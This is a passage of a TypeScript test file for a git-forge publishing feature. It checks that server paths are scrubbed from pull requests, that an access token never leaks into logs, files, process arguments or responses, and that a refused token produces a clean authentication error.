    expect((await putRemote(req('PUT', '/api/projects/tea/remote', 'admin', { mode: 'pull-request', apiUrl: `${gitea.apiUrl}/` }), params({ id: 'tea' })).then(answer)).status).toBe(200);
  });

  it('no server folder in a pull request: its title and body', async () => {
    const root = path.join(projectsRoot, 'shop');
    const row = await newWorkspace('pathy');
    commit(h.runtime.workspaces.checkoutPath(row), { 'src/pathy2.txt': 'x\n' }, `Read ${root}/.env for the config`);
    const n = (await publish('ed', row.id)).body.data.pullRequest.number as number;
    const pr = github.pulls.find((x) => x.number === n)!;
    expect(pr.body).toContain('Read ./.env for the config');
    expect(`${pr.title}\n${pr.body}`).not.toContain(projectsRoot);
    expect(github.problems).toEqual([]);
  });
});

describe('the token', () => {
  it('is found nowhere: answers, log lines, the repositories’ config, the server’s folders, process arguments; the forges got it only in Authorization', async () => {
    for (const dir of [projectsRoot, h.config.workspacesRoot, h.config.dataDir, h.config.outputPath]) {
      if (fs.existsSync(dir)) expect([dir, filesHolding(dir, TOKEN)]).toEqual([dir, []]);
    }
    expect(fs.readFileSync(path.join(projectsRoot, 'shop', '.git', 'config'), 'utf8')).not.toContain(TOKEN);
    expect(ps.some((l) => l.includes('push'))).toBe(true);
    expect(ps.filter((l) => l.includes(TOKEN))).toEqual([]);
    expect(logLines.some((l) => l.includes('"event":"forge.published"'))).toBe(true);
    expect(logLines.filter((l) => l.includes(TOKEN))).toEqual([]);
    expect(answers.length).toBeGreaterThan(20);
    expect(answers.filter((t) => t.includes(TOKEN))).toEqual([]);
    for (const f of [github, gitlab, gitea]) {
      expect(f.authorizations.length).toBeGreaterThan(0);
      expect(new Set(f.authorizations)).toEqual(new Set([f.kind === 'gitea' ? `token ${TOKEN}` : `Bearer ${TOKEN}`]));
      expect(f.requests.filter((r) => r.path.includes(TOKEN))).toEqual([]);
    }
    expect(github.pulls.map((p) => p.body).filter((b) => b.includes(TOKEN))).toEqual([]);
  });

  it('a refused token is E_REMOTE_AUTH naming GitHub and what failed, without the token; never a 500', async () => {
    const wrong = `tok_wrong_${crypto.randomBytes(6).toString('hex')}`;
    const ws = await createWorkspace(req('POST', '/api/projects/shop/workspaces', 'ed', { name: 'refused' }), params({ id: 'shop' })).then(answer);
    const row = (await h.runtime.workspaces.store.get(ws.body.data.id))!;
    commit(h.runtime.workspaces.checkoutPath(row), { 'src/refused.txt': 'x\n' }, 'work');
    // The git server takes the right token; the API is asked with a wrong one.
    const good = (await h.runtime.remotes.get('shop'))!;
    const { forgeHttp } = await import('@/lib/engine/remotes/forge-http');
    const { GitHubClient } = await import('@/lib/engine/remotes');
    const client = new GitHubClient(forgeHttp({ kind: 'github', apiUrl: good.apiUrl, repository: 'team/shop', host: '127.0.0.1', token: wrong }, h.config.remotes.allowHosts));
    const e = await client.findPullRequest('bmad/refused', 'main').catch((x: unknown) => x as { code: string; status: number; message: string });
    expect(e).toMatchObject({ code: 'E_REMOTE_AUTH', status: 422 });
    expect((e as { message: string }).message).toMatch(/GitHub at 127\.0\.0\.1 refused the token while looking for an open pull request/);
    expect((e as { message: string }).message).not.toContain(wrong);
  });
});
